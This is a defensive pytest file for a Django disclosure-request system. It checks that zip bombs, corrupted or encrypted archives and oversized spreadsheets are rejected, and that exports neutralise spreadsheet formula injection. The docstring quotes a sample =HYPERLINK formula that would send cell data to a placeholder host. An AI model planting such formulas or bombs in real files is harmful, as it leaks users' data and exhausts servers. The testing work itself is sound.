"""Hostile files through the web and the CLI (issue #9): HTTP 400 / exit 2 with a Chinese message naming
the limit, nothing written; and formula injection: an applicant named
=HYPERLINK("http://x"&B2,"查看附件") comes out of every export as text, never as a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from gongkai.applications.ledger import HEADER
from gongkai.applications.models import Application
from gongkai.applications.tests.factories import ID_NUMBER
from gongkai.core.audit_models import AuditEvent
from gongkai.reportformat import hostile

pytestmark = pytest.mark.django_db
LEDGERS = "/staff/ledgers/"
CHECK = "/reports/check/"
ROW = ["H-1", "自然人", "李某", "2025-03-03", "当面", "村道资金", "", "", ""]


def _zip_variants(valid: bytes) -> dict[str, tuple[bytes, str]]:
    return {
        "lying_crc": (hostile.lying_crc(valid), "数据校验失败"),
        "encrypted": (hostile.encrypted(valid), "已加密"),
        "method_99": (hostile.method_99(valid), "不支持的压缩方式"),
        "truncated": (hostile.truncated(valid), "压缩包已损坏"),
    }


def hostile_ledgers() -> dict[str, tuple[bytes, str]]:
    files = {"huge_dimension": (hostile.huge_dimension_xlsx(HEADER), "1048576 行")}
    files |= _zip_variants(hostile.xlsx([HEADER, ROW]))
    return files


def state():
    return Application.objects.count(), AuditEvent.objects.count()


@pytest.mark.parametrize("kind", sorted(hostile_ledgers()))
def test_hostile_ledger_files_get_400_on_the_web(client, personas, county, kind):
    data, message = hostile_ledgers()[kind]
    client.force_login(personas["clerk"])
    before = state()
    response = client.post(
        LEDGERS,
        {
            "imp-agency": county["town"].pk,
            "imp-kind": "applications",
            "imp-file": SimpleUploadedFile("台账.xlsx", data),
        },
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    assert state() == before


@pytest.mark.parametrize("kind", sorted(hostile_ledgers()))
def test_hostile_ledger_files_exit_2_on_the_cli(tmp_path, county, kind):
    data, message = hostile_ledgers()[kind]
    path = tmp_path / "台账.xlsx"
    path.write_bytes(data)
    err = io.StringIO()
    with pytest.raises(SystemExit) as exc:
        call_command("import", "applications", str(path), agency=county["town"].name, stderr=err)
    assert exc.value.code == 2
    assert message in err.getvalue()
    assert Application.objects.count() == 0


def hostile_reports() -> dict[str, tuple[str, bytes, str]]:
    bomb = hostile.bomb_docx()
    files = {"bomb_docx": ("report.docx", bomb, "压缩炸弹")}
    files["six_bombs"] = (
        "reports.zip",
        hostile.zip_of({f"{i}.docx": bomb for i in range(6)}),
        "压缩炸弹",
    )
    for kind, (data, message) in _zip_variants(hostile.docx(["年度报告"] * 50)).items():
        files[f"{kind}_docx"] = ("report.docx", data, message)
    for kind, (data, message) in _zip_variants(hostile.zip_of({"a.txt": b"x" * 5000})).items():
        files[f"{kind}_zip"] = ("reports.zip", data, message)
    return files


@pytest.mark.parametrize("kind", sorted(hostile_reports()))
def test_hostile_reports_get_400_on_the_checker_page(client, personas, kind):
    name, data, message = hostile_reports()[kind]
    client.force_login(personas["county_office"])
    response = client.post(CHECK, {"report": SimpleUploadedFile(name, data)})
    assert response.status_code == 400
    assert message in response.content.decode()


# -- formula injection, end to end -------------------------------------------------------------------
@pytest.fixture
def attacker(client, county):
    response = client.post(
        "/requests/apply/",
        {
            "agency": county["town"].pk,
            "applicant_type": "natural_person",
            "applicant_name": hostile.FORMULA_NAME,
            "id_number": ID_NUMBER,
            "contact": "13800000000",
            "content": "+1 办事指南",
            "form_requested": "electronic",
            "privacy_acknowledged": "on",
        },
    )
    assert response.status_code == 303  # to the receipt (Post/Redirect/Get)
    return Application.objects.get(applicant_name=hostile.FORMULA_NAME)


def _export(client, agency, fmt):
    return client.get(
        "/staff/ledgers/export/",
        {"exp-agency": agency.pk, "exp-kind": "applications", "exp-format": fmt, "exp-year": ""},
    )


def test_the_xlsx_export_writes_the_attack_as_text(client, personas, county, attacker):
    client.force_login(personas["clerk"])
    content = _export(client, county["town"], "xlsx").content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    names = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert names == [hostile.FORMULA_NAME]
    assert sheet.cell(row=2, column=3).data_type == "s"


def test_the_csv_export_prefixes_formula_like_cells(client, personas, county, attacker):
    client.force_login(personas["clerk"])
    text = _export(client, county["town"], "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2] == "'" + hostile.FORMULA_NAME
    assert rows[1][5] == "'+1 办事指南"
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_ledger_reimports_unchanged(client, personas, county, attacker, tmp_path, fmt):
    client.force_login(personas["clerk"])
    content = _export(client, county["town"], fmt).content
    before = state()
    response = client.post(
        LEDGERS,
        {
            "imp-agency": county["town"].pk,
            "imp-kind": "applications",
            "imp-file": SimpleUploadedFile(f"back.{fmt}", content),
        },
    )
    assert response.status_code == 200, response.content.decode()[:2000]
    assert state() == before
    attacker.refresh_from_db()
    assert attacker.applicant_name == hostile.FORMULA_NAME


def test_imports_read_values_never_formulas(tmp_path, county):
    formula = "=1+1"
    path = tmp_path / "台账.xlsx"
    path.write_bytes(hostile.xlsx([HEADER, ["F-1", "自然人", formula, "2025-03-03"]]))
    call_command(
        "import", "applications", str(path), agency=county["town"].name, stdout=io.StringIO()
    )
    assert Application.objects.get(number="F-1").applicant_name != formula
